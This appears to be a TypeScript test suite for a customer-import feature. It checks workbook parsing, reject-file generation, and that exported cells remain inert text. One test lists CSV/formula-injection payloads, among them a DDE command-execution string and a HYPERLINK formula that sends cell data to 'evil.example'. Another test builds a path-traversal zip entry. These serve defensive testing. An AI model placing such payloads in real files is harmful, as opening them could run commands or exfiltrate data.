/** Workbooks become customers, and those of their rows that fail come out as a workbook again. */

import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { customers } from '../../../src/datasets/customers.ts';
import { type RejectFormat, rejectFile, rejectFormat } from '../../../src/import/outcome/reject-file.ts';
import type { ImportRun } from '../../../src/import/run.ts';
import { exported } from '../../support/export.ts';
import { useImports } from '../../support/import.ts';
import { plainWorkbook } from '../../support/workbook.ts';
import { number, row, text, textRows, workbookFile } from '../../support/workbook-file.ts';

const given = useImports({ chunkRows: 3 });
const problemColumns = ['problem_row', 'problem_fields', 'problem_codes', 'problems', 'how_to_mend'];

const header = row(1, {
  A: text('Email'),
  B: text('First Name'),
  C: text('Phone'),
  D: text('Postcode'),
  E: text('Date of Birth'),
  F: text('Total Spent'),
  G: text('Marketing Opt-in'),
  H: text('Created At'),
});
const formats = ['00000', 14, '#,##0.00\\ "€"', 22];
const bool = (value: 0 | 1): string => `<c r="@" t="b"><v>${value}</v></c>`;
const error = '<c r="@" t="e"><v>#REF!</v></c>';

function people(...rows: string[]): Buffer {
  return workbookFile({ sheets: [{ name: 'People', rows: header + rows.join('') }], formats });
}

const ann = row(2, {
  A: text('ann@example.com'),
  B: text("'Ann"),
  C: number('447911123456'),
  D: number(2134, 1),
  E: number(29_254, 2),
  F: number(1234.5, 3),
  G: bool(1),
  H: number(45_717.979166666664, 4),
});

async function rejectsOf(run: ImportRun): Promise<{ file: Buffer; rows: string[][]; format: RejectFormat }> {
  const pieces = Readable.from(rejectFile(given.database, run), { objectMode: false });
  const file = await buffer(pieces);
  const [sheet] = plainWorkbook(file);
  const width = sheet?.rows[0]?.length ?? 0;
  const rows = (sheet?.rows ?? []).map((cells) => {
    const shown = Array.from({ length: width }, () => '');
    for (const { at, value } of cells) shown[at.charCodeAt(0) - 65] = value;
    return shown;
  });
  return { file, rows, format: rejectFormat(run) };
}

describe('a workbook', () => {
  test.each([
    ['as it is', people(ann)],
    ['gzipped', gzipSync(people(ann))],
  ])('%s becomes customers, each cell what a person sees in it', async (_, file) => {
    const tenant = await given.tenant();
    const run = await given.import(tenant, file, { fileName: 'people.xlsx' });
    expect([run.state, run.created, await given.problems(run)]).toEqual(['done', 1, []]);
    expect(await given.customer(tenant, 'ann@example.com')).toMatchObject({
      first_name: "'Ann",
      phone: '447911123456',
      postal_code: '02134',
      date_of_birth: '1980-02-03',
      total_spent: '1234.5000',
      marketing_opt_in: true,
      created_at: expect.stringMatching(/^2025-03-01[T ]23:30:00/),
    });
    expect(run.inspection?.notes).toEqual([
      'Amounts in "Total Spent" are shown with €; they are read as plain numbers.',
    ]);
  });

  test('imported again changes nothing', async () => {
    const tenant = await given.tenant();
    await given.import(tenant, people(ann));
    expect((await given.import(tenant, people(ann))).unchanged).toBe(1);
  });

  test('has its rows named by their numbers in the sheet; error cells and spoiled ones are problems', async () => {
    const run = await given.import(
      await given.tenant(),
      people(
        ann,
        row(5, { A: text('bob@example.com'), B: text('Bob'), C: number('4.47911123456E+17') }),
        row(6, { A: text('cy@example.com'), B: text('Cy'), E: error, F: error }),
        row(9, {
          A: text('dee@example.com'),
          B: text('Dee'),
          E: number(60, 2),
          F: '<c r="@"><f>1+1</f></c>',
        }),
      ),
    );
    const problems = await given.problems(run);
    expect(problems.map(({ row: at, line, field, code }) => [at, line, field, code])).toEqual([
      [2, 5, 'phone', 'value.spoiled'],
      [3, 6, 'date_of_birth', 'value.spoiled'],
      [3, 6, 'total_spent', 'value.spoiled'],
      [4, 9, 'date_of_birth', 'date.impossible'],
      [4, 9, 'total_spent', 'value.spoiled'],
    ]);
    expect([run.created, run.failed]).toEqual([1, 3]);
  });

  test('says itself where its decimals begin, whatever is said of the file', async () => {
    const tenant = await given.tenant();
    const file = people(
      row(2, { A: text('a@example.com'), B: text('A'), F: number('1.234') }),
      row(3, { A: text('b@example.com'), B: text('B'), F: number('5.678') }),
    );
    for (const reading of [{}, { decimal: ',' as const }]) {
      const run = await given.import(tenant, file, { reading });
      expect(await given.problems(run)).toEqual([]);
      expect(await given.column(tenant, 'total_spent')).toEqual({
        'a@example.com': '1.2340',
        'b@example.com': '5.6780',
      });
    }
  });

  test('counts days that are plain numbers from 1904, where it does', async () => {
    const tenant = await given.tenant();
    const rows = header + row(2, { A: text('a@example.com'), B: text('A'), E: number(27_792) });
    await given.import(tenant, workbookFile({ sheets: [{ name: 'P', rows }], date1904: true }));
    expect(await given.customer(tenant, 'a@example.com')).toMatchObject({ date_of_birth: '1980-02-03' });
  });

  test('is read from the sheet that is asked for', async () => {
    const tenant = await given.tenant();
    const sheets = ['one', 'two'].map((name) => ({
      name,
      rows: textRows([
        ['Email', 'First Name'],
        [`${name}@example.com`, 'X'],
      ]),
    }));
    const run = await given.import(tenant, workbookFile({ sheets }), { dialect: { sheet: 'two' } });
    expect(run.inspection?.dialect.sheet).toBe('two');
    expect(Object.keys(await given.column(tenant, 'id'))).toEqual(['two@example.com']);
    const none = await given.import(tenant, workbookFile({ sheets }), { dialect: { sheet: 'three' } });
    expect([none.state, none.failure?.code]).toEqual(['failed', 'usage.invalid']);
  });

  test('that is hostile fails with its reason, and nothing is written', async () => {
    const tenant = await given.tenant();
    const more = [{ name: '../customers', content: 'x' }];
    const file = workbookFile({ sheets: [{ name: 'People', rows: header + ann }], more });
    const run = await given.import(tenant, file);
    expect([run.state, run.failure?.code]).toEqual(['failed', 'file.zip']);
    expect(await given.column(tenant, 'id')).toEqual({});
  });
});

describe('cells that a spreadsheet would run', () => {
  const payloads = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|x',
    '+1+1',
    '-1-1',
    "'=1+1",
    "''=1+1",
    "'90s Ltd",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=1+1\n=2+2',
  ];

  test('are texts in a workbook, go out as texts, and come back as they were', async () => {
    const tenant = await given.tenant();
    const rows = payloads.map((payload, i) => [`p${i}@example.com`, payload, `${payload}!`]);
    const file = workbookFile({
      sheets: [{ name: 'P', rows: textRows([['Email', 'First Name', 'Company Name'], ...rows]) }],
    });
    expect(await given.import(tenant, file)).toMatchObject({ created: payloads.length, failed: 0 });
    const names = Object.fromEntries(rows.map(([email, name]) => [email, name]));
    expect(await given.column(tenant, 'first_name')).toEqual(names);
    for (const profile of ['spreadsheet', 'data'] as const) {
      const out = await exported(given.database, tenant, {
        dataset: customers,
        format: 'xlsx',
        profile,
        columns: ['email', 'first_name', 'company_name'].map((field) => ({ field })),
      });
      const [sheet] = plainWorkbook(out.file);
      expect(sheet?.xml).not.toMatch(/<f[ >]/);
      expect(new Set(sheet?.rows.flat().map(({ type }) => type))).toEqual(new Set(['inlineStr']));
      const again = await given.import(tenant, out.file);
      expect(again).toMatchObject({ unchanged: payloads.length, failed: 0 });
    }
    expect(await given.column(tenant, 'first_name')).toEqual(names);
  });
});

describe('the reject file of a workbook', () => {
  const bob = row(3, {
    A: text('nonsense'),
    B: text('Bob "B" <&> _x0041_'),
    D: number(7, 1),
    E: number(29_254, 2),
  });
  const cy = row(5, { A: text('cy@example.com'), B: text('two\nlines'), F: error, G: bool(0) });

  test('is a workbook: the problems first, then its own columns with what a person sees in them', async () => {
    const run = await given.import(await given.tenant(), people(ann, bob, cy));
    const { rows, format } = await rejectsOf(run);
    expect(format).toBe('xlsx');
    expect(rows).toEqual([
      [
        ...problemColumns,
        'Email',
        'First Name',
        'Phone',
        'Postcode',
        'Date of Birth',
        'Total Spent',
        'Marketing Opt-in',
        'Created At',
      ],
      [
        '2',
        'email',
        'email.invalid',
        '"nonsense" is not an e-mail address.',
        expect.any(String),
        ...['nonsense', 'Bob "B" <&> A', '', '00007', '1980-02-03', '', '', ''],
      ],
      [
        '3',
        'total_spent',
        'value.spoiled',
        '"#REF!" is what a spreadsheet left of the value.',
        expect.any(String),
        ...['cy@example.com', 'two\nlines', '', '', '', '#REF!', 'false', ''],
      ],
    ]);
  });

  test('mended and imported again brings the rows in', async () => {
    const tenant = await given.tenant();
    const run = await given.import(tenant, people(ann, bob, cy));
    const { rows } = await rejectsOf(run);
    const mended = rows.map((cells) =>
      cells.map((cell) => cell.replace('nonsense', 'bob@example.com').replace('#REF!', '12.5')),
    );
    const again = await given.import(
      tenant,
      workbookFile({ sheets: [{ name: 'Rejected', rows: textRows(mended) }] }),
    );
    expect(again.mapping?.columns.slice(0, 5).map(({ field }) => field)).toEqual(Array(5).fill(null));
    expect([again.created, again.failed]).toEqual([2, 0]);
    expect(await given.customer(tenant, 'bob@example.com')).toMatchObject({
      first_name: 'Bob "B" <&> A',
      postal_code: '00007',
      date_of_birth: '1980-02-03',
    });
    expect(await given.column(tenant, 'total_spent')).toMatchObject({ 'cy@example.com': '12.5000' });
  });

  test('dropped on again as it is fails as before, and has the same columns', async () => {
    const tenant = await given.tenant();
    const run = await given.import(tenant, people(bob, cy));
    const first = await rejectsOf(run);
    const again = await given.import(tenant, first.file);
    expect(again.failed).toBe(2);
    expect((await rejectsOf(again)).rows).toEqual(first.rows);
  });

  test('has nothing but its header when no row failed', async () => {
    const run = await given.import(await given.tenant(), people(ann));
    expect((await rejectsOf(run)).rows).toHaveLength(1);
  });

  test('cuts a text that no cell holds, and says so', async () => {
    const long = 'x'.repeat(40_000);
    const run = await given.import(
      await given.tenant(),
      workbookFile({
        sheets: [
          {
            name: 'P',
            rows: textRows([
              ['Email', 'Remark'],
              ['nonsense', long],
              ['x', 'y'],
            ]),
          },
        ],
      }),
    );
    const [, cut] = (await rejectsOf(run)).rows;
    expect(cut?.[6]).toHaveLength(32_767);
    expect(cut?.[6]).toMatch(/x … \(cut: 40000 characters\)$/);
  });
});
